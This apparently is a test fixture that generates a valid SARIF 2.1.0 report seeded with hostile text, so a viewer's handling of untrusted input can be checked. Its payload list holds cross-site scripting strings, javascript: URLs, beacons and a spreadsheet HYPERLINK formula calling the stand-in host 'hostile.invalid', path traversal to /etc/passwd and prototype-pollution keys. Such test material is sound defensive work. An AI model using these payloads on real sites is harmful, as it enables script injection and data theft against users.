/** Nothing listens here; a page that requests it has been tricked. */
export const HOSTILE_HOST = 'hostile.invalid';

const RUN = 'globalThis.hostileCodeRan=true';
const BEACON = `https://${HOSTILE_HOST}`;

/** Texts that run code or contact another host if a page treats them as markup. */
export const payloads = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${BEACON}/pixel.png">`,
  `"><svg onload="${RUN}">`,
  `'><iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<link rel=stylesheet href="${BEACON}/x.css">`,
  `<style>@import url(${BEACON}/y.css);</style>`,
  `<body onload="${RUN}"><input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}">`,
  `<a href="javascript:${RUN}">click</a>`,
  `[click](javascript:${RUN}) ![pixel](${BEACON}/md.png)`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `{{constructor.constructor('${RUN}')()}} \${${RUN}}`,
  `\u202egnp.exe\u202c \u2066hidden\u2069 \u0000\u001b[31mred \ud800`,
  `=HYPERLINK("${BEACON}/?x="&A1,"click") @SUM(1) +1 -1`,
];

const urls = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}//https://example.com`,
  `\u0001javascript:${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `vbscript:${RUN}`,
  `//${HOSTILE_HOST}/x`,
  'file:///etc/passwd',
  'https://user:password@example.com/',
];

const paths = ['', '/etc/passwd', '../../etc/passwd', `javascript:${RUN}`];
const lines = [2 ** 31, -1, 0, 1.5, '7', null];

/** A valid SARIF 2.1.0 file with a hostile payload in every text: one run per payload. */
export function hostileSarif() {
  return {
    version: '2.1.0',
    runs: payloads.map((text, i) => ({
      tool: {
        driver: {
          name: text,
          version: text,
          informationUri: urls[i % urls.length],
          rules: [
            {
              id: text,
              name: text,
              shortDescription: { text, markdown: text },
              fullDescription: { text, markdown: text },
              help: { text, markdown: text },
              helpUri: urls[i % urls.length],
              properties: { tags: [text], 'security-severity': '9.8' },
            },
          ],
        },
      },
      results: urls.slice(0, 2).map((url, j) => ({
        ruleId: text,
        ruleIndex: 0,
        level: 'error',
        message: { text: `${text} ${j}`, markdown: text },
        hostedViewerUri: url,
        workItemUris: [url],
        fingerprints: { [text]: `${text}${j}` },
        locations: [
          {
            physicalLocation: {
              artifactLocation: {
                uri: j === 0 ? text : paths[i % paths.length],
              },
              region: {
                startLine: lines[i % lines.length],
                snippet: { text, markdown: text },
              },
            },
            message: { text, markdown: text },
          },
        ],
        ['__proto__']: { hostileCodeRan: true },
        constructor: { prototype: { hostileCodeRan: true } },
      })),
    })),
  };
}
